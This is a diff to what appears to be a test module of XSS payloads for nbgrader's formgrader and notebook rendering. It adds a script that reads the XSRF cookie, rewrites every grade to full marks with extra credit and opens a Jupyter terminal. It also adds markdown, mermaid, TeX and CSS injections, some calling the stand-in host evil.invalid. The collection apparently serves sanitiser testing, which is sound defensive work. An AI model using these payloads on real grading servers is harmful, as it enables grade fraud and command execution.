@@ -5,6 +5,8 @@ A payload that gets through calls `alert` (the test replaces it by a bell), or a
 differ only in a constant: each needs another way of the browser, of a sanitiser or of a template to go wrong.
 """
 
+import re
+
 ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
 EVIL = "http://evil.invalid"
 
@@ -165,3 +167,55 @@ PAYLOADS = {
     "service-worker": "<script>navigator.serviceWorker&&navigator.serviceWorker.register('/x.js');alert(1)</script>",
     "beacon": f"<script>navigator.sendBeacon('{EVIL}/b');new Image().src='{EVIL}/i'</script>",
 }  # fmt: skip
+
+SELF_GRADING = """<script>(async () => {
+    const token = (document.cookie.match(/_xsrf=([^;]*)/) || [])[1], headers = {'X-XSRFToken': token, 'X-CSRFToken': token};
+    const base = location.pathname.split('/formgrader')[0], here = location.pathname.match(/submissions\\/([^/]*)/)[1];
+    for (const one of await (await fetch(`${base}/formgrader/api/grades?submission_id=${here}`)).json())
+        await fetch(`${base}/formgrader/api/grade/${one.id}`, {method: 'PUT', headers,
+            body: JSON.stringify({manual_score: one.max_score, extra_credit: 5})});
+    await fetch(`${base}/api/terminals`, {method: 'POST', headers, body: '{}'});
+    alert(1);
+})()</script>"""
+# What formgrader itself makes of a text, beside what any page does.
+ON_FORMGRADER = {
+    "self-grading": SELF_GRADING,
+    "files-prefix": "[click](files/javascript:alert(1)) <a href='files/javascript:alert(1)'>click</a>",
+    "formgraders-path": "![x](/formgrader?path=submitted/s0) ![x](../../../formgrader?path=submitted/s0)",
+    "formgraders-path-encoded": "<img src='%2e%2e/%2e%2e/%2e%2e/formgrader?path=submitted/s0'><img src='..\\..\\logout'>",
+    "formgraders-path-link": "[source](../../../formgrader?path=submitted/s0) [b](http://localhost:8888/formgrader?path=s)",
+    "next-student": "<img src='next'><img src='prev?index=1'>",
+    "credit-class": "<b class='full-credit'>Show the drawing</b><span class=no-credit>x</span><i class='mark-graded'>y</i>",
+    "score-class": "<input class='score tabbable' value=99><input class='extra-credit' value=99 type=number>",
+    "names-of-the-page": "<div id=notebook></div><div id=statusmessage></div><a id=submission_id></a><form name=base_url>",
+    "names-of-cells": "<input id=area-check><textarea id='essay-0-comment'>x</textarea>\n\n# area-check\n\n# notebook",
+    "tooltip": "<b data-toggle=tooltip data-html=true title='<img src=x onerror=alert(1)>' data-link='/x'>x</b>",
+    "cover": "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>Next</div><div class=navbar-fixed-top>x</div>",
+    "style-url": f"<b style='background-color:url({EVIL}/c);color:red;list-style:url({EVIL}/l)'>x</b>",
+    "style-escape": f"<b style='back\\67round:u\\72l({EVIL}/c)'>x</b>",
+    "mermaid": "```mermaid\ngraph TD\nA[<img src=x onerror=alert(1)>]\nclick A 'javascript:alert(1)'\n```",
+    "jp-mermaid": "<div class='jp-Mermaid'><pre class='mermaid'>graph TD\nclick A \"javascript:alert(1)\"</pre></div>",
+    "tex-macros": r"$\href{javascript:alert(1)}{x}\class{full-credit}{y}\cssId{notebook}{z}\style{position:fixed}{u}$",
+    "markdown-title": "[a](https://example.org '\"onmouseover=\"alert(1)') ![a](a.png '\"onerror=\"alert(1)')",
+    "heading-quote": "# x\" onmouseover=\"alert(1)\n\n## <img src=x onerror=alert(1)>",
+    "table-cell": "|a|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
+    "fence-language": "```python onclick=alert(1)\n<img src=x onerror=alert(1)>\n```\n~~~<script>alert(1)</script>\n~~~",
+    "picture-of-an-attachment": "<img src='attachment:a.png' onerror=alert(1)> <img src='attachment:../../../logout'>",
+    "checkbox": "- [ ] x <input type=checkbox onclick=alert(1) name=score form=x formaction=javascript:alert(1)>",
+}  # fmt: skip
+
+EVERY = PAYLOADS | ON_FORMGRADER
+
+
+def numbered(text, number):
+    """A payload that rings with a number and asks for a path that begins with one, to be known among others."""
+    text = re.sub(r"alert(\(|&#40;|`)1", rf"alert\g<1>{number}", text)
+    return text.replace("//evil.invalid", f"//evil.invalid/{number}")
+
+
+def named(told):
+    """A sentence with the payload's name in place of its number (any thousands, and its place in EVERY)."""
+    names = list(EVERY)
+    return re.sub(
+        r"\b\d(\d\d\d)\b", lambda found: names[int(found[1])] if int(found[1]) < len(names) else found[0], told
+    )
